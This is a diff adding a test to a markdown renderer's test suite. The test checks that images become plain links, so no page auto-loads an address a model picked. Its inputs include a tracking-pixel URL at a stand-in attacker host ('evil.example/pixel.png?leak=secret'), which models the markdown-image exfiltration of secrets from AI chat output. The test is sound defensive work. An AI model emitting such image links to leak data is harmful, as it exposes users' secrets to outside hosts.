@@ -36,3 +36,17 @@ def test_inputs_can_never_be_live_form_fields():
     html = markdown_render('<input type="text" name="password"> [ ] not an item')
 
     assert "<input" not in html and "&lt;input" in html
+
+
+def test_images_are_links_so_no_page_loads_an_address_a_model_chose():
+    html = markdown_render(
+        "![chart of *sales*](https://evil.example/pixel.png?leak=secret) ![](//evil.example/a.png) "
+        "![d](data:image/png;base64,AAAA) [![badge](https://badges.example/b.svg)](https://project.example)"
+    )
+
+    assert "<img" not in html
+    assert '<a class="image-link" href="https://evil.example/pixel.png?leak=secret" rel="noopener noreferrer nofollow">Image: chart of sales (evil.example)</a>' in html
+    assert '<a class="image-link" href="//evil.example/a.png" rel="noopener noreferrer nofollow">Image (evil.example)</a>' in html
+    assert "data:" not in html and "Image: d" in html
+    # An image inside a link is that link's text: links do not nest.
+    assert '<a href="https://project.example" rel="noopener noreferrer nofollow">Image: badge (badges.example)</a>' in html
